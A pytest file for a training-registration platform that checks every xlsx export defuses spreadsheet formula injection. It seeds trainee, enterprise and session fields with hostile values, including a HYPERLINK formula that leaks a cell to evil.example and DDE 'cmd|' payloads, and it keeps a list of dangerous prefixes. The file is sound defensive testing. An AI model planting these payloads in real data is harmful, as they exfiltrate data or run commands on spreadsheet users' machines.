"""Spreadsheet formula injection: no export hands out a cell that a spreadsheet would run.

A hostile registration (a trainee called =HYPERLINK(...), an enterprise called +cmd|..., a session titled
@SUM(...), a work-info form starting with -) is downloaded through every xlsx export the platform offers;
every cell of every sheet must be plain text or a number, and no text may start with = + - @ tab or CR.
"""

from __future__ import annotations

import io

import openpyxl
import pytest

from lingjun.core.exports import neutralise
from lingjun.core.tests.test_permission_matrix import fixed_clock, world  # noqa: F401  (fixtures)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")'
ATTACKS = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("value", ATTACKS)
def test_neutralise_prefixes_an_apostrophe_to_anything_a_spreadsheet_would_evaluate(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["张三", "010-55579001", "a@b.cn", "董事长", "", None, -5, 3.5, "C++ 工程师"]
)
def test_neutralise_leaves_ordinary_values_alone(value):
    assert neutralise(value) == value


@pytest.fixture
def hostile(world):  # noqa: F811
    values, clients, programme, reg = world
    from lingjun.classes.models import TimetableSession, TrainingClass
    from lingjun.programmes.models import WorkInfo
    from lingjun.registrations.models import Enterprise, ImportBatch, Trainee
    from lingjun.registrations.sheet import HEADERS

    Trainee.objects.filter(pk=reg.trainee_id).update(
        name=HYPERLINK, position="@SUM(1+1)*cmd|' /C calc'!A0", email="=1+1@evil.example"
    )
    Enterprise.objects.filter(pk=reg.enterprise_id).update(name="+cmd|' /C calc'!A0")
    TimetableSession.objects.filter(training_class_id=values["class_id"]).update(
        title="-2+3+cmd|' /C calc'!A0", place="=1+1"
    )
    TrainingClass.objects.filter(pk=values["class_id"]).update(
        venue='=HYPERLINK("http://evil.example")', head_teacher="@evil"
    )
    programme.notice_number = "=1+2"
    programme.save(update_fields=["notice_number"])
    WorkInfo.objects.create(
        programme=programme,
        region_id="330000",
        department='=HYPERLINK("x")',
        leader_name="+王",
        leader_position="-局长",
        leader_phone="@0571",
        liaison_name="\t=1",
        liaison_position="\r=2",
        liaison_phone="0571-1",
        liaison_mobile="13800138000",
        liaison_email="a@b.cn",
    )
    row = [HYPERLINK if h == "姓名" else "+cmd|' /C calc'!A0" for h in HEADERS]
    ImportBatch.objects.filter(pk=values["batch_id"]).update(
        file_name="=evil.xlsx",
        errors=[
            {
                "row": 3,
                "values": row,
                "errors": [{"row": 3, "column": "姓名", "code": "invalid", "message": "=不正确"}],
            }
        ],
    )
    return values, clients


def _cells(response):
    assert response.status_code == 200, response.content[:300]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def test_no_export_hands_out_a_formula(hostile):
    values, clients = hostile
    centre, region = clients["C"], clients["R"]
    p, c, b = values["programme_id"], values["class_id"], values["batch_id"]
    downloads = {
        "registrations.xlsx": centre.get(f"/api/v1/programmes/{p}/registrations.xlsx"),
        "registrations-with-ids.xlsx": centre.get(f"/api/v1/programmes/{p}/registrations-with-ids.xlsx"),
        "quotas.xlsx": centre.get(f"/api/v1/programmes/{p}/quotas.xlsx"),
        "work-info.xlsx": centre.get(f"/api/v1/programmes/{p}/work-info.xlsx"),
        "template.xlsx": region.get(f"/api/v1/programmes/{p}/registrations/template.xlsx"),
        "import errors.xlsx": region.get(f"/api/v1/imports/{b}/errors.xlsx"),
        **{
            f"{kind}.xlsx": centre.get(f"/api/v1/classes/{c}/{kind}.xlsx")
            for kind in ("roster", "signin", "contacts", "timetable")
        },
    }
    seen_hostile = set()
    for name, response in downloads.items():
        for sheet, cell in _cells(response):
            where = (name, sheet, cell.coordinate, cell.value)
            assert cell.data_type != "f", where  # no formula cell at all
            if isinstance(cell.value, str):
                assert not cell.value.lstrip(" \u3000").startswith(DANGEROUS), where
                if cell.value.startswith("'") and cell.value[1:].lstrip(" \u3000").startswith(DANGEROUS):
                    seen_hostile.add(name)
    # the hostile values were really in the sheets (shown, defused), so the test did not pass on empty sheets
    assert seen_hostile == set(downloads) - {"quotas.xlsx", "template.xlsx"}, seen_hostile


def test_the_trainee_called_hyperlink_is_shown_not_executed(hostile):
    values, clients = hostile
    response = clients["C"].get(f"/api/v1/classes/{values['class_id']}/roster.xlsx")
    names = [
        cell.value
        for _sheet, cell in _cells(response)
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert "'" + HYPERLINK in names
